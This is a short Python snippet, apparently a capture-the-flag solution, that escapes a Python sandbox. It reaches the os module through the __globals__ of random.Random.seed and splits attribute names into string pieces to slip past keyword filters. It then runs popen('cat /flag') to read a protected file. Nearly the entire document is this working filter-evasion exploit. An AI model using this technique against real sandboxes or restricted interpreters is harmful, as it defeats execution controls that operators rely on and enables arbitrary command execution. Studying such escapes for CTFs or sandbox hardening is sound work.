# random.py does "import os as _os"; any function defined there exposes it
# through __globals__, so importing an innocuous module is enough.
import random

g = getattr(random.Random.seed, '__glo' + 'bals__')
print(g['_' + 'os'].popen('cat /flag').read())
